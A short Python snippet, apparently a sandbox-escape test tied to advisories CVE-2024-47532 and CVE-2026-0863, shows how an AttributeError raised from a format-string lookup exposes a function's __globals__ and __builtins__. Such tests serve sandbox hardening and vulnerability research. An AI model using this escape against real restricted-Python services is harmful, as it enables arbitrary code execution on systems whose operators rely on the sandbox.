# AttributeError.obj hands back the object that a failed lookup was made on.
# advisory: CVE-2024-47532 (RestrictedPython), CVE-2026-0863 (n8n)
import string

print("ATTEMPTED")
try:
    string.Formatter().get_field("0.__globals__.nothing", (reach,), {})
except AttributeError as error:
    reach(error.obj)
try:
    "{0.__globals__.nothing}".format(reach)
except AttributeError as error:
    reach(error.obj, error.obj.get("__builtins__"))
